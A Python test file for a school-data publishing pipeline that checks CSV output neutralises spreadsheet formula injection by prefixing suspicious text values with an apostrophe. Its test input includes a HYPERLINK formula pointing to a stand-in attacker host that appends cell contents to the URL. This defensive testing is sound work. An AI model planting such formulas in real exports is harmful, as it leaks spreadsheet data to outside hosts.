"""No published CSV carries a value a spreadsheet would run as a formula."""

import polars as pl

from hub_assets.dbt.manifest import PublishedMart
from hub_assets.disclosure.formula import neutralise_formulas
from hub_assets.disclosure.margins import PublishSpec
from hub_assets.disclosure.release import write_files

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def test_a_school_named_like_a_formula_is_published_neutralised(tmp_path):
    mart = PublishedMart(unique_id="model.hub.by_school", name="by_school", use_case="student_homelessness",
                         schema="marts", relation="by_school",
                         spec=PublishSpec(dimensions=("school_name",), counts=("students",)),
                         description="", column_descriptions={})
    table = pl.DataFrame({"school_name": [HYPERLINK, "+1 Academy", "-Dash", "@Home", "\tTab", "Ordinary High"],
                          "students": [40, 12, 15, 30, 22, -3]})

    release = write_files(tmp_path, mart, table)

    csv = pl.read_csv(release.files[0])
    assert csv["school_name"].to_list() == ["'" + HYPERLINK, "'+1 Academy", "'-Dash", "'@Home", "'\tTab",
                                            "Ordinary High"]
    assert csv["students"].to_list() == [40, 12, 15, 30, 22, -3]  # numbers stay numbers
    assert pl.read_parquet(release.files[1])["school_name"][0] == HYPERLINK  # typed data keeps the value


def test_only_text_columns_are_neutralised():
    table = pl.DataFrame({"n": [-5, 3], "rate": [-0.5, 0.1], "label": ["-5", "=1+1"],
                          "kind": pl.Series(["=x", "y"], dtype=pl.Categorical)})
    out = neutralise_formulas(table)
    assert out["n"].to_list() == [-5, 3] and out["rate"].to_list() == [-0.5, 0.1]
    assert out["label"].to_list() == ["'-5", "'=1+1"] and out["kind"].to_list() == ["'=x", "y"]
